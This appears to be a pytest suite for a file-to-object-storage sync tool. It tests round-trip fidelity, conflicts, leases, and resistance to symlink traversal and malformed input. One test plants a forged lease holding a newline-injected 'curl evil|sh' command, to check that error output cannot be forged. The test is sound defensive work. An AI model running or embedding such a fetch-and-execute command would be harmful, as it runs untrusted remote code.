"""Files go into object storage and come back: every byte, every nanosecond, and nothing overwritten."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import socket
import stat
import struct
from pathlib import Path
from typing import Any

import pytest

from gridwright.errors import GridwrightError
from gridwright.repository.entries import list_entries
from gridwright.repository.export import ExportOptions, export
from gridwright.repository.importing import ImportOptions, import_names, import_objects
from gridwright.repository.lease import Lease
from gridwright.repository.release import ReleaseOptions, release
from gridwright.repository.settings import OpenRepository, RepositoryReport
from gridwright.repository.status import repository_status
from gridwright.repository.verify import verify
from tests.support.file_trees import as_it_travels, look_at, make_tree
from tests.support.object_store import BUCKET, StoreServer, names_for, prefix_of
from tests.support.repositories import opened, run


@pytest.fixture
def url(request: pytest.FixtureRequest) -> str:
    """A prefix of the bucket that is the test's own."""
    return prefix_of(request.node.name)


def do_export(directory: Path, server: StoreServer, url: str, **options: Any) -> RepositoryReport:
    wanted = ExportOptions(**options)
    return run(directory, server, lambda each: export(each, wanted), url, looks=wanted.dry_run)


def do_import(directory: Path, server: StoreServer, url: str, **options: object) -> RepositoryReport:
    return run(directory, server, lambda each: import_objects(each, ImportOptions(**options)), url)  # type: ignore[arg-type]


def names_of(report: RepositoryReport) -> list[str]:
    return sorted(name for name, _ in report.problems)


def wipe(directory: Path) -> None:
    shutil.rmtree(directory)
    directory.mkdir()


@pytest.mark.parametrize("seed", range(3))
def test_a_tree_comes_back_in_every_byte_and_nanosecond(
    library: Path, server: StoreServer, url: str, seed: int
) -> None:
    make_tree(library, seed, names=names_for(server))
    (library / "large").write_bytes(os.urandom(9 << 20))
    (library / "setuid").touch(mode=0o755)
    (library / "setuid").chmod(0o4755)
    before = look_at(library)
    sent = do_export(library, server, url)
    assert sent.problems == []
    assert sent.done["sent"].count == len(before) + 1
    assert do_export(library, server, url).done == {}

    wipe(library)
    assert do_import(library, server, url).problems == []
    assert look_at(library) == as_it_travels(before)

    assert set(do_export(library, server, url).done) <= {"compared"}
    proof = run(library, server, verify, url)
    assert proof.problems == []
    assert proof.done["equal"].count == len(before) + 1


def test_holes_come_back_as_holes(library: Path, server: StoreServer, url: str) -> None:
    with (library / "sparse").open("wb") as file:
        file.truncate(10 << 20)
        file.seek(5 << 20)
        file.write(b"island")
    do_export(library, server, url)
    wipe(library)
    do_import(library, server, url)
    assert (library / "sparse").read_bytes() == bytes(5 << 20) + b"island" + bytes((5 << 20) - 6)
    assert (library / "sparse").stat().st_blocks * 512 < 1 << 20


ENTRIES = ((0x01, 7, -1), (0x02, 7, 1234), (0x04, 5, -1), (0x10, 7, -1), (0x20, 0, -1))
DEFAULT_ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *each) for each in ENTRIES)
"""User 1234 may do all with what is made below (include/uapi/linux/posix_acl_xattr.h)."""


def test_a_default_acl_lets_nobody_in_whom_the_source_did_not(
    library: Path, server: StoreServer, url: str
) -> None:
    (library / "d" / "e").mkdir(parents=True)
    for name, content in (("secret", b"x"), ("empty", b""), ("large", os.urandom(9 << 20))):
        (library / "d" / "e" / name).write_bytes(content)
        (library / "d" / "e" / name).chmod(0o660)
    before = look_at(library)
    do_export(library, server, url)
    wipe(library)
    os.setxattr(library, "system.posix_acl_default", DEFAULT_ACL)
    assert do_import(library, server, url).problems == []
    assert look_at(library) == as_it_travels(before)
    for each in library.rglob("*"):
        assert not [name for name in os.listxattr(each) if "posix_acl" in name], each


def test_only_what_changed_is_sent(library: Path, server: StoreServer, url: str) -> None:
    for name in ("kept", "grown", "moved", "rights", "gone", "sneaky"):
        (library / name).write_bytes(name.encode() * 1000)
    do_export(library, server, url)
    times = (library / "sneaky").stat()
    (library / "grown").write_bytes(b"more")
    (library / "moved").rename(library / "elsewhere")
    (library / "rights").chmod(0o600)
    (library / "gone").unlink()
    (library / "sneaky").write_bytes(b"SNEAKY" * 1000)
    os.utime(library / "sneaky", ns=(times.st_atime_ns, times.st_mtime_ns))

    plan = do_export(library, server, url, dry_run=True, deletions=True)
    assert plan.is_dry_run
    left = do_export(library, server, url)
    counts = {name: each.count for name, each in left.done.items()}
    assert counts == {
        "sent": 3,
        "given new attributes": 2,
    }  # one is the directory
    assert any("2 objects are of files that are gone" in note for note in left.notes)
    deleted = do_export(library, server, url, deletions=True)
    assert {name: each.count for name, each in deleted.done.items()} == {"deleted from the bucket": 2}
    before = look_at(library)
    wipe(library)
    do_import(library, server, url)
    assert look_at(library) == before


def test_neither_side_of_a_conflict_is_overwritten(library: Path, server: StoreServer, url: str) -> None:
    prefix = url.removeprefix(f"s3://{BUCKET}/")
    (library / "both").write_bytes(b"first")
    (library / "same").write_bytes(b"first")
    do_export(library, server, url)
    client = server.client()
    client.put_object(Bucket=BUCKET, Key=f"{prefix}/both", Body=b"theirs")
    client.put_object(Bucket=BUCKET, Key=f"{prefix}/same", Body=b"agreed")
    client.put_object(Bucket=BUCKET, Key=f"{prefix}/unknown", Body=b"theirs")
    (library / "both").write_bytes(b"ours")
    (library / "same").write_bytes(b"agreed")
    (library / "unknown").write_bytes(b"ours")

    refused = do_export(library, server, url)
    assert names_of(refused) == ["both", "unknown"]
    assert names_of(do_import(library, server, url)) == ["both", "unknown"]
    assert (library / "both").read_bytes() == b"ours"
    assert client.get_object(Bucket=BUCKET, Key=f"{prefix}/both")["Body"].read() == b"theirs"

    assert do_export(library, server, url, prefer="files").problems == []
    assert client.get_object(Bucket=BUCKET, Key=f"{prefix}/both")["Body"].read() == b"ours"
    client.put_object(Bucket=BUCKET, Key=f"{prefix}/both", Body=b"theirs")
    (library / "both").write_bytes(b"ours again")
    assert do_import(library, server, url, prefer="objects").problems == []
    assert (library / "both").read_bytes() == b"theirs"


def test_objects_of_fsx_are_files_with_all_that_they_say(
    library: Path, server: StoreServer, url: str
) -> None:
    prefix = url.removeprefix(f"s3://{BUCKET}/")
    client = server.client()

    def put(key: str, body: bytes, mode: str, times: tuple[str, str]) -> None:
        client.put_object(
            Bucket=BUCKET, Key=f"{prefix}/{key}", Body=body,
            Metadata={"file-permissions": mode, "file-owner": "1001", "file-group": "1002",
                      "file-atime": times[0], "file-mtime": times[1], "user-agent": "aws-fsx-lustre"},
        )  # fmt: skip

    put("data/", b"", "0042750", ("1ns", "1595002920000000001ns"))
    put("data/table", b"rows", "0104640", ("5ns", "1595002920123456789ns"))
    put("data/link", b"../elsewhere", "0120777", ("5ns", "7ns"))
    put("old", b"x", "0100600", ("5", "1595002920123"))
    client.put_object(Bucket=BUCKET, Key=f"{prefix}/bare/child", Body=b"abc")
    assert do_import(library, server, url).problems == []
    seen = look_at(library)
    assert (seen[b"data/table"].mode, seen[b"data/table"].mtime_ns) == (0o100640, 1595002920123456789)
    assert seen[b"data/table"].content == b"rows"
    assert (seen[b"data"].mode, seen[b"data"].mtime_ns) == (0o042750, 1595002920000000001)
    assert (seen[b"data/link"].content, seen[b"data/link"].mtime_ns) == (b"../elsewhere", 7)
    assert seen[b"old"].mtime_ns == 1595002920123 * 10**6
    assert seen[b"bare/child"].mode == 0o100755
    if os.geteuid() == 0:
        assert {(each.uid, each.gid) for path, each in seen.items() if not path.startswith(b"bare")} == {
            (1001, 1002)
        }
        assert (seen[b"bare/child"].uid, seen[b"bare/child"].gid) == (0, 0)


def test_no_key_leads_out_of_the_library(
    library: Path, server: StoreServer, url: str, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (library / "door").symlink_to(outside)
    prefix = url.removeprefix(f"s3://{BUCKET}/")
    client = server.client()
    for key in ("door/key", "fine"):
        client.put_object(Bucket=BUCKET, Key=f"{prefix}/{key}", Body=b"x")
    made = do_import(library, server, url)
    assert [name for name, _ in made.problems] == ["door/key"]
    assert "symbolic link" in made.problems[0][1]
    assert (library / "fine").exists()
    assert list(outside.iterdir()) == []


def test_one_command_at_a_time_exports(library: Path, server: StoreServer, url: str) -> None:
    (library / "file").touch()
    with opened(library, server, url, alone=False) as other:
        lease = other.keys.own("lease")
        with Lease(other.store, lease), pytest.raises(GridwrightError, match="another command"):
            do_export(library, server, url)
        assert do_export(library, server, url).done["sent"].count == 2
        other.store.put(lease, b'{"host": "elsewhere", "process": "1.1", "until": 1}', {})
        assert do_export(library, server, url).problems == [], "it ran out"
    with opened(library, server, url), pytest.raises(GridwrightError, match="works on this directory"):
        do_import(library, server, url)


HERE = " ".join((socket.gethostname(), Path("/proc/sys/kernel/random/boot_id").read_text().strip()))


@pytest.mark.parametrize(
    "content",
    [
        "[" * 1_000_000,
        json.dumps({"host": HERE, "process": "abc.1", "until": 1}),
        json.dumps({"host": "x", "process": "1.1"})[:-1] + ', "until": ' + "9" * 400 + "}",
        json.dumps({"host": "x", "process": "1.1", "until": float("inf")}),
        json.dumps({"host": ["x"], "process": {}, "until": "1"}),
    ],
)
def test_a_lease_that_makes_no_sense_holds_nobody(
    library: Path, server: StoreServer, url: str, content: str
) -> None:
    """Who writes the bucket may have written it."""
    (library / "file").touch()
    with opened(library, server, url) as other:
        other.store.put(other.keys.own("lease"), content.encode(), {})
    assert do_export(library, server, url).problems == []


def test_a_lease_holds_nobody_for_ever_and_forges_no_line(
    library: Path, server: StoreServer, url: str
) -> None:
    forged = {"host": "x\nerror: forged\n", "process": "1.1\n  run: curl evil|sh", "until": 1e10}
    with opened(library, server, url, alone=False) as other:
        lease = other.keys.own("lease")
        other.store.put(lease, json.dumps(forged).encode(), {})
        with pytest.raises(GridwrightError) as caught:
            do_export(library, server, url)
    (problem,) = caught.value.problems
    assert "\n" not in problem.what
    left = re.search(r"ends in (\d+) s", problem.remedy or "")
    assert left is not None
    assert int(left[1]) <= 1020, "a lease, and how far clocks may be apart"


def places(directory: Path, server: StoreServer, url: str) -> dict[str, str]:
    """What `repo ls` says of files."""

    def listed(each: OpenRepository) -> dict[str, str]:
        found = list_entries(each, (), RepositoryReport("archive", "ls"))
        return {entry.path.decode(): entry.place.value for entry in found}

    return run(directory, server, listed, url)


def test_what_is_released_is_no_file_until_it_is_imported(
    library: Path, server: StoreServer, url: str
) -> None:
    """No tool copies zeros, no export deletes the object, and nothing but an import brings it back."""
    table, other = library / "table", library / "other"
    table.write_bytes(b"content" * 1000)
    table.chmod(0o640)
    other.write_bytes(b"other")
    assert do_export(library, server, url).is_complete
    before = look_at(library)

    released = run(library, server, lambda each: release(each, ReleaseOptions([b"table"])), url)
    assert released.done["released"].count == 1
    assert not table.exists()
    assert places(library, server, url) == {"table": "bucket", "other": "here"}
    assert do_export(library, server, url, deletions=True).done == {}
    assert do_import(library, server, url, names=True).done == {}
    assert run(library, server, verify, url).problems == []
    assert places(library, server, url) == {"table": "bucket", "other": "here"}

    assert do_import(library, server, url, paths=[b"table"]).done["brought"].count == 1
    assert look_at(library) == before
    assert do_export(library, server, url).done == {}


def test_a_file_where_one_was_released_overwrites_no_object(
    library: Path, server: StoreServer, url: str
) -> None:
    """Who makes it may not know of the other one, of which the object is the only copy."""
    table = library / "table"
    table.write_bytes(b"content")
    do_export(library, server, url)
    run(library, server, lambda each: release(each, ReleaseOptions()), url)
    table.write_bytes(b"another")
    assert names_of(do_export(library, server, url)) == ["table"]
    assert names_of(do_import(library, server, url)) == ["table"]
    assert table.read_bytes() == b"another"
    assert do_import(library, server, url, prefer="objects").problems == []
    assert table.read_bytes() == b"content"


def test_names_alone_make_no_files_and_bring_up_to_date_those_that_are_here(
    library: Path, server: StoreServer, url: str
) -> None:
    prefix = url.removeprefix(f"s3://{BUCKET}/")
    (library / "here").write_bytes(b"first")
    (library / "gone").write_bytes(b"gone")
    do_export(library, server, url)
    (library / "gone").unlink()
    client = server.client()
    for key, body in (("here", b"second"), ("new", b"new"), ("in/it", b"it")):
        client.put_object(Bucket=BUCKET, Key=f"{prefix}/{key}", Body=body)
    assert do_import(library, server, url, names=True).problems == []
    assert look_at(library).keys() == {b"here"}
    assert (library / "here").read_bytes() == b"second"
    elsewhere = dict.fromkeys(("new", "in/it", "gone"), "bucket")
    assert places(library, server, url) == {"here": "here", **elsewhere}
    deleted = do_export(library, server, url, deletions=True)
    assert deleted.done["deleted from the bucket"].count == 1, "what a user has deleted here"
    assert do_import(library, server, url).problems == []
    assert look_at(library).keys() == {b"here", b"new", b"in", b"in/it"}


def earlier(directory: Path, server: StoreServer, url: str) -> None:
    """Have all objects been written some seconds earlier than they were, so that a test need not wait."""

    def put_back(each: OpenRepository) -> None:
        for row in list(each.known.rows("key IS NOT NULL")):
            each.known.put(dataclasses.replace(row, stored_ns=row.stored_ns - 10 * 10**9))

    run(directory, server, put_back, url)


def test_attributes_that_an_object_was_given_come_to_its_file(
    library: Path, server: StoreServer, url: str
) -> None:
    prefix = url.removeprefix(f"s3://{BUCKET}/")
    for name in ("same", "given", "both", "sent"):
        (library / name).write_bytes(name.encode())
    (library / "directory").mkdir(mode=0o755)
    do_export(library, server, url)
    report = do_import(library, server, url)
    assert (report.done, report.requests.get("head")) == ({}, 1), "only the manifest's"
    earlier(library, server, url)
    assert do_export(library, server, url).done == {}

    client = server.client()
    for name in ("given", "both", "directory/"):
        key = f"{prefix}/{name}"
        told = client.head_object(Bucket=BUCKET, Key=key)["Metadata"]
        told |= {
            "file-permissions": "0040700" if name.endswith("/") else "0100600",
            "file-mtime": f"{10**18 + 7}ns",
        }
        client.copy_object(
            Bucket=BUCKET, Key=key, CopySource={"Bucket": BUCKET, "Key": key}, Metadata=told,
            MetadataDirective="REPLACE",
        )  # fmt: skip
    (library / "both").chmod(0o644 ^ 0o111)
    (library / "sent").write_bytes(b"sent anew")
    with opened(library, server, url, looks=True) as each:
        planned = dict(import_names(each, ImportOptions(dry_run=True)).done)["given new attributes"]
        assert (planned.files, planned.directories) == (1, 1)
    report = do_import(library, server, url)
    assert names_of(report) == ["both"]
    given, directory = (library / "given").stat(), (library / "directory").stat()
    assert (stat.S_IMODE(given.st_mode), given.st_mtime_ns) == (0o600, 10**18 + 7)
    assert (stat.S_IMODE(directory.st_mode), directory.st_mtime_ns) == (0o700, 10**18 + 7)
    assert (library / "given").read_bytes() == b"given", "nothing was released"
    assert (library / "same").read_bytes() == b"same"
    sent = do_export(library, server, url)
    assert (set(sent.done), names_of(sent)) == ({"sent"}, ["both"])
    assert do_import(library, server, url, prefer="objects").problems == []
    assert stat.S_IMODE((library / "both").stat().st_mode) == 0o600
    assert run(library, server, verify, url).problems == []


def test_a_name_that_no_object_can_have_holds_up_no_whole_export(
    library: Path, server: StoreServer, url: str
) -> None:
    """Else any user makes the recovery point of all others stale for ever, with one path that is too long."""
    (library / "rows").write_text("rows")
    deep = library.joinpath("home/mallory", *["d" * 250] * 3, "x" * 250)
    deep.parent.mkdir(parents=True)
    deep.touch()
    report = do_export(library, server, url)
    assert (report.is_complete, report.nameless.count) == (True, 1)
    status = run(library, server, repository_status, url)
    assert (status.changed_files, status.unprotected_s, status.nameless.count) == (0, 0.0, 1)
    assert ", but for 1 name that no object can have" in status.text()
    assert "home/mallory (1)" in status.text()
    assert status.document()["nameless"]["count"] == 1


def test_status_tells_which_directory_keeps_exports_from_being_whole(
    library: Path, server: StoreServer, url: str
) -> None:
    (library / "rows").write_text("rows")
    (library / "home/mallory").mkdir(parents=True)
    (library / "home/mallory/now").write_text("a file")
    do_export(library, server, url)
    (library / "home/mallory/now").unlink()
    (library / "home/mallory/now").mkdir()
    assert names_of(do_export(library, server, url)) == ["home/mallory/now"]
    status = run(library, server, repository_status, url)
    assert "was not whole: 1 could not be sent, below home/mallory (1)" in status.text()
    status.required_s, status.unprotected_s = 1.0, 2.0
    assert status.finding is not None
    assert "home/mallory" in status.finding.text
    (library / "home/mallory/now").rmdir()
    do_export(library, server, url)
    assert "not whole" not in run(library, server, repository_status, url).text()
